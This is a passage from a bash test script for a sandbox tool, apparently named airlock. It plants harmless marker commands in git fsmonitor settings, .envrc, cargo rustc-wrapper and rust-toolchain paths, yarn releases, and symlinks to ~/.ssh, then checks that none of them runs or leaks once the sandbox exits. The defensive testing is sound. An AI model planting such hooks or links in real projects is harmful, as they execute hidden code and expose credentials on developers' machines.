  own "$PROJECT/.yarn"
  what="$WHO plain default: .yarn (existing, with cache/) replaced by a link to planted releases"
  al -- -q run --report "$REPORT" -- sh -c 'mv .yarn .yarn-old && mkdir -p elsewhere/releases &&
    printf "require(\"fs\").writeFileSync(\"%s/yarn\", \"ran\\\\n\");\n" "$1" > elsewhere/releases/yarn-9.9.9.cjs &&
    ln -s elsewhere .yarn' sh "$MARKS"
  expect_rc "$what: exits 122" 122
  expect_true "$what: .yarn is no longer a link (moved aside itself)" test ! -L "$PROJECT/.yarn"
  moved=$(moved_to "$PROJECT/.yarn")
  expect_true "$what: the report says where it was moved ($(left_behind | tr '\t\n' '  '))" test -n "$moved"
  s2_yarn
  expect_true "$what: step 2 (yarn) did not run the planted release" test ! -e "$MARKS/yarn"

  # Control files below the project's top, where git, direnv and cargo
  # look from the working directory upwards: a new repository in src/ with
  # core.fsmonitor, src/.envrc and tools/.cargo/config.toml are moved aside
  # (122); an existing nested repository (vendor/lib) is read-only.
  local nested='git init -q src && git -C src config core.fsmonitor "touch $1/nested-fsmonitor; false" &&
    printf "touch %s/nested-envrc\n" "$1" > src/.envrc &&
    mkdir -p tools/.cargo && printf "[build]\nrustc-wrapper = \"%s/nested-cargo\"\n" "$1" > tools/.cargo/config.toml
    git -C vendor/lib config core.fsmonitor "touch $1/nested-existing; false"; echo "existing-rc=$?"'
  s2_nested() {
    IN=$PROJECT/src outside git status --porcelain >/dev/null 2>&1
    IN=$PROJECT/src outside sh -c 'if [ -f .envrc ]; then . ./.envrc; fi' >/dev/null 2>&1
    IN=$PROJECT/vendor/lib outside git status --porcelain >/dev/null 2>&1
    IN=$PROJECT/tools outside sh -c 'w=$(sed -n "s/^rustc-wrapper = \"\(.*\)\"$/\1/p" .cargo/config.toml 2>/dev/null); [ -z "$w" ] || touch "$w"' >/dev/null 2>&1
  }
  for profile in "$SCRATCH/$WHO/unprotected.toml" default ci-step; do
    KIND=git
    fresh git
    IN=$PROJECT outside git init -q vendor/lib
    what="$WHO git ${profile##*/}: nested control files"
    al -- -q run --profile "$profile" --report "$REPORT" -- sh -c "$nested" sh "$MARKS"
    s2_nested
    if [[ $profile == */unprotected.toml ]]; then
      expect_eq "$what: control: every planted command runs in step 2" \
        "nested-cargo nested-envrc nested-existing nested-fsmonitor" "$(cd "$MARKS" && echo *)"
      continue
    fi
    expect_rc "$what: exits 122" 122
    expect_contains "$what: the existing nested .git/config is read-only" "$ERR" "Read-only file system"
    expect_contains "$what: ... so git config failed inside" "$OUT" "existing-rc=255"
    for path in src/.git src/.envrc tools/.cargo; do
      expect_true "$what: $path is moved aside and listed in left_behind" \
        test ! -e "$PROJECT/$path" -a -n "$(moved_to "$(realpath "$PROJECT")/$path")"
    done
    expect_eq "$what: step 2 (git status, direnv, cargo in those directories) ran nothing planted" "" "$(ls "$MARKS")"
  done

  # A checked-in control file that is a symbolic link is protected where it
  # leads, never bound through the link: sub/.cargo and .vscode pointing at
  # ~/.ssh must not bring the hidden key back; .envrc pointing at a
  # directory in the project makes that directory read-only.
  KIND=plain
  fresh plain
  mkdir -p "$PROJECT/sub" "$PROJECT/envdir"
  ln -s "$FAKE_HOME/.ssh" "$PROJECT/sub/.cargo"
  ln -s "$FAKE_HOME/.ssh" "$PROJECT/.vscode"
  ln -s envdir "$PROJECT/.envrc"
  own "$PROJECT"
  what="$WHO plain default: control files that are links (sub/.cargo, .vscode -> ~/.ssh; .envrc -> envdir)"
  al -- -q run --report "$REPORT" -- sh -c 'cat sub/.cargo/id_rsa .vscode/id_rsa 2>&1; touch envdir/x 2>&1; true'
  expect_rc "$what: runs" 0
  expect_not_contains "$what: the key behind the links stays hidden" "$OUT" "planted-ssh-key"
  expect_contains "$what: where .envrc leads is read-only" "$OUT" "Read-only file system"

  # rust-toolchain.toml names a toolchain by path: rustup's cargo and rustc
  # proxies run the binaries there whenever cargo runs in the project (as
  # .cargo/config.toml's rustc-wrapper does, which is protected). Step 2 is
  # rustup itself where this user can run it, else a stand-in that runs
  # <path>/bin/cargo as rustup does.
  local cargo_proxy=""
  cargo_proxy=$(command -v cargo 2>/dev/null)
  [[ -n $cargo_proxy && -x ${cargo_proxy%/*}/rustup ]] || cargo_proxy=""
  [[ -n $cargo_proxy ]] && ! as_user "$WHO" test -x "$cargo_proxy" && cargo_proxy=""
  s2_toolchain() {
    if [[ -n $cargo_proxy ]]; then
      outside "$cargo_proxy" --version >/dev/null 2>&1
    else
      outside sh -c 'p=$(sed -n "s/^path = \"\(.*\)\"$/\1/p" rust-toolchain.toml 2>/dev/null); [ -z "$p" ] || "$p/bin/cargo" --version' >/dev/null 2>&1
    fi
  }
  local toolchain='mkdir -p tools/toolchain/bin && printf "#!/bin/sh\ntouch %s/toolchain\n" "$1" > tools/toolchain/bin/cargo &&
    chmod 755 tools/toolchain/bin/cargo && printf "[toolchain]\npath = \"%s/tools/toolchain\"\n" "$PWD" > rust-toolchain.toml'
  KIND=git
  fresh git
  al -- -q run --profile "$SCRATCH/$WHO/unprotected.toml" -- sh -c "$toolchain" sh "$MARKS"
  s2_toolchain
  expect_true "$WHO git control: a planted rust-toolchain.toml runs its cargo (${cargo_proxy:-stand-in})" test -e "$MARKS/toolchain"
  fresh git
  what="$WHO git default: a new rust-toolchain.toml naming a planted toolchain"
  al -- -q run --report "$REPORT" -- sh -c "$toolchain" sh "$MARKS"
  s2_toolchain
  expect_true "$what: step 2 (cargo in the project) did not run the planted toolchain (exit $RC)" test ! -e "$MARKS/toolchain"

  # An audit runs the step too (with a permissive policy, to record it).
  if [[ $HAVE_AUDIT == 1 ]]; then
    KIND=git
    fresh git
    what="$WHO git audit"
    al -- -q audit -o "$SCRATCH/$WHO/generated.toml" --report "$REPORT" -- sh -c "${PLANT_SCRIPT[hook]}
      echo hook-rc=\$?; ${PLANT_SCRIPT[envrc]}" sh "$MARKS"
    expect_contains "$what: .git/hooks/pre-commit cannot be written" "$ERR" "Read-only file system"
    expect_rc "$what: a new .envrc fails the audit with 122" 122
    expect_true "$what: .envrc moved aside" test -n "$(moved_to "$PROJECT/.envrc")" -a ! -e "$PROJECT/.envrc"
    s2_commit
    expect_true "$what: step 2 (commit) did not run a planted hook" test ! -e "$MARKS/hook"
    fresh git
    IN=$PROJECT outside git init -q vendor/lib
    what="$WHO git audit: nested control files"
    al -- -q audit -o "$SCRATCH/$WHO/generated.toml" --report "$REPORT" -- sh -c '
      git -C vendor/lib config core.fsmonitor "touch $1/nested-existing; false"; echo "existing-rc=$?"
      printf "touch %s/nested-envrc\n" "$1" > src/.envrc' sh "$MARKS"
    expect_rc "$what: a new src/.envrc fails the audit with 122" 122
    expect_contains "$what: the existing vendor/lib/.git/config is read-only" "$OUT" "existing-rc=255"
    expect_true "$what: src/.envrc moved aside" test ! -e "$PROJECT/src/.envrc"
  else
    note "$WHO: no seccomp user notification; audit not tried"
  fi

  # The refusal tells how a step that must write the file says so: that
  # line, pasted into a profile, must be one airlock accepts.
  fresh plain
  al -- -q run --report "$REPORT" -- sh -c 'echo x > .envrc && mkdir -p elsewhere/releases && ln -s elsewhere .yarn'
  local hint hints n=0
  mapfile -t hints < <(grep -o 'protect = \["![^"]*"\]' <<<"$ERR")
  expect_eq "$WHO plain default: .envrc and a .yarn link: one opt-out suggested for each" 2 "${#hints[@]}"
  for hint in "${hints[@]}"; do
    n=$((n + 1))
    printf '[profile]\nextends = ["default"]\n\n[filesystem]\n%s\n' "$hint" > "$SCRATCH/$WHO/hint$n.toml"
    chmod 644 "$SCRATCH/$WHO/hint$n.toml"
    al -- check "$SCRATCH/$WHO/hint$n.toml"
    expect_rc "$WHO plain default: the suggested opt-out $hint is a valid profile line" 0
  done

  # Hiding what was planted from the after-run check by permissions: as
  # uid 65534 the supervisor has no DAC override (root passes trivially).
  KIND=plain
  fresh plain
  what="$WHO plain default: .envrc planted, then the project made read-only (chmod 555 .)"
  al -- -q run --report "$REPORT" -- sh -c 'printf "touch %s/envrc\n" "$1" > .envrc && chmod 555 .' sh "$MARKS"
  expect_rc "$what: exits 122" 122
  expect_true "$what: .envrc is not left in place" test ! -e "$PROJECT/.envrc"
  chmod 755 "$PROJECT"
  fresh plain
  what="$WHO plain default: .yarn/releases planted, then .yarn made unsearchable (chmod 600 .yarn)"
  al -- -q run --report "$REPORT" -- sh -c 'mkdir -p .yarn/releases && echo x > .yarn/releases/yarn-9.9.9.cjs &&
    chmod 600 .yarn' sh "$MARKS"
  expect_rc "$what: exits 122" 122
  expect_true "$what: .yarn/releases is not left in place" test ! -e "$PROJECT/.yarn/releases"
}

START=$SECONDS
# ctest runs each user's half as its own test (AIRLOCK_TEST_PART), in parallel.
read -ra users <<<"${AIRLOCK_TEST_PART:-root nobody}"
for WHO in "${users[@]}"; do
  make_fixture "$WHO"
  PROJECT="$SCRATCH/$WHO/project"
  REPORT="$SCRATCH/$WHO/report.json"
  MARKS="$SCRATCH/$WHO/marks"
  mkdir -p "$MARKS"
  chmod 777 "$MARKS"
  if [[ $HAVE_PIP == 1 ]]; then
    ENV_BASE=pip-install ENV_BASE_NAME=pip-install
  else
    ENV_BASE="$SCRATCH/$WHO/pip-keep.toml" ENV_BASE_NAME="default keeping PIP_*"
    note "$WHO: python3 has no pip: the environment rule is checked under default keeping PIP_*"
  fi
  write_profiles
  make_templates
  t=$SECONDS
  scenario_create
  scenario_plants
  scenario_legit
  scenario_env
  scenario_variants
  echo "time $WHO: $((SECONDS - t)) s"
  rm -rf "$PROJECT"
done
echo "$((SECONDS - START)) s"
[[ $NOTES -eq 0 ]] || echo "$NOTES notes"
finish
